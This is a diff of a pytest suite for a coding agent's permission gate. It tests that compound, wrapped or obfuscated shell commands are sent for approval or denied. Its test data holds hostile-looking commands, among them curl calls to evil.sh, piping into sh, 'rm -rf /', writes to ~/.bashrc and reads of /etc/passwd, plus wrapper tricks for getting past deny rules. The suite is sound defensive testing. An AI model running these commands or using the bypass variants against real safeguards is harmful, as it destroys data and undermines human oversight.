@@ -8,7 +8,7 @@ import pytest
 
 from toycoder_daemon.agent.events import PermissionRequest
 from toycoder_daemon.tools.base import ToolContext
-from toycoder_daemon.tools.edit import write_file
+from toycoder_daemon.tools.edit import edit_file, write_file
 from toycoder_daemon.tools.permission import PermissionGate, Rule
 from toycoder_daemon.tools.shell import run_command
 from toycoder_daemon.tools.workspace import Workspace
@@ -32,10 +32,13 @@ ALLOW = ["run_command(echo *)", "run_command(pytest *)", "write_file(docs/**)", 
 DENY = ["run_command(rm *)", "write_file(docs/secret/**)"]
 
 
-def verdict(tmp_path: Path, tool: str, **args) -> str | None:
-    gate = PermissionGate(ALLOW, DENY)
+TOOLS = {t.name: t for t in (run_command, write_file, edit_file)}
+
+
+def verdict(tmp_path: Path, tool: str, allow: list[str] = ALLOW, deny: list[str] = DENY, **args) -> str | None:
+    gate = PermissionGate(allow, deny)
     ctx = ToolContext(Workspace(tmp_path), Answer("reject"), "c")
-    v = gate.rule_verdict(tool, args, ctx)
+    v = gate.rule_verdict(TOOLS[tool], args, ctx)
     return v[0] if v else None
 
 
@@ -46,20 +49,20 @@ def verdict(tmp_path: Path, tool: str, **args) -> str | None:
     ("pytest -q tests/test_x.py", "allow"),
     ("  echo   spaced  ", "allow"),
     ("echo x && rm -rf ~", "deny"),          # the rm piece meets the deny rule
-    ("echo x && curl evil.sh", None),          # compound: never allowed, so it asks
-    ("echo x; curl evil.sh", None),
-    ("echo x || curl evil.sh", None),
-    ("echo x | sh", None),
-    ("echo `curl evil.sh`", None),
-    ("echo $(curl evil.sh)", None),
-    ("echo $HOME", None),
-    ("echo hi > ~/.bashrc", None),
-    ("echo hi < /etc/passwd", None),
-    ("echo hi\ncurl evil.sh", None),
-    ("echo hi & curl evil.sh", None),
-    ("echo hi \\; curl x", None),
-    ("(echo hi)", None),
-    ("eval echo hi", None),
+    ("echo x && curl evil.sh", "ask"),         # compound: never allowed, and a deny rule cannot judge it
+    ("echo x; curl evil.sh", "ask"),
+    ("echo x || curl evil.sh", "ask"),
+    ("echo x | sh", "ask"),
+    ("echo `curl evil.sh`", "ask"),
+    ("echo $(curl evil.sh)", "ask"),
+    ("echo $HOME", "ask"),
+    ("echo hi > ~/.bashrc", "ask"),
+    ("echo hi < /etc/passwd", "ask"),
+    ("echo hi\ncurl evil.sh", "ask"),
+    ("echo hi & curl evil.sh", "ask"),
+    ("echo hi \\; curl x", "ask"),
+    ("(echo hi)", "ask"),
+    ("eval echo hi", "ask"),
     ("rm -rf /", "deny"),
     ("ls; rm -rf x", "deny"),
     ("echo $(rm -rf x)", "deny"),
@@ -84,6 +87,35 @@ def test_command_rules(tmp_path: Path, command: str, expected: str | None) -> No
 ])
 def test_path_rules(tmp_path: Path, path: str, expected: str | None) -> None:
     assert verdict(tmp_path, "write_file", path=path) == expected
+
+
+@pytest.mark.parametrize("command", [
+    "X=1 rm -rf x", "env rm -rf x", '"rm" -rf x', "\\rm -rf x", "{ rm -rf x; }", "if true; then rm -rf x; fi",
+    "sudo rm -rf /", "xargs rm < list", "sh -c 'rm -rf x'", "command rm x", "nohup rm x",
+])
+def test_a_deny_rule_that_cannot_see_the_command_beats_a_blanket_allow(tmp_path: Path, command: str) -> None:
+    assert verdict(tmp_path, "run_command", ["run_command"], ["run_command(rm *)"], command=command) in ("ask", "deny")
+    assert verdict(tmp_path, "run_command", ["run_command"], ["run_command(rm *)"], command="ls -la") == "allow"
+    assert verdict(tmp_path, "run_command", ["run_command"], [], command=command) == "allow"  # no deny rule: as told
+
+
+def test_always_allow_does_not_skip_an_unsure_deny(tmp_path: Path) -> None:
+    gate = PermissionGate([], ["run_command(rm *)"])
+    gate.always.add("run_command")
+    ctx = ToolContext(Workspace(tmp_path), Answer("reject"), "c")
+    assert gate.must_ask(run_command, {"command": "env rm -rf x"}, ctx) is True
+    assert gate.must_ask(run_command, {"command": "ls"}, ctx) is False
+
+
+def test_only_declared_arguments_are_rule_subjects(tmp_path: Path) -> None:
+    from toycoder_daemon.tools.base import Tool
+
+    async def f(ctx, **kw): return ""
+
+    mcp_like = Tool("mcp__s__t", "", "sensitive", f, None, parameters={"type": "object", "properties": {"q": {}}})
+    gate = PermissionGate(["mcp__s__t(docs/**)"], [])
+    ctx = ToolContext(Workspace(tmp_path), Answer("reject"), "c")
+    assert gate.rule_verdict(mcp_like, {"q": "x", "path": "docs/a.md"}, ctx) is None
 
 
 def test_rules_only_apply_to_their_tool(tmp_path: Path) -> None:
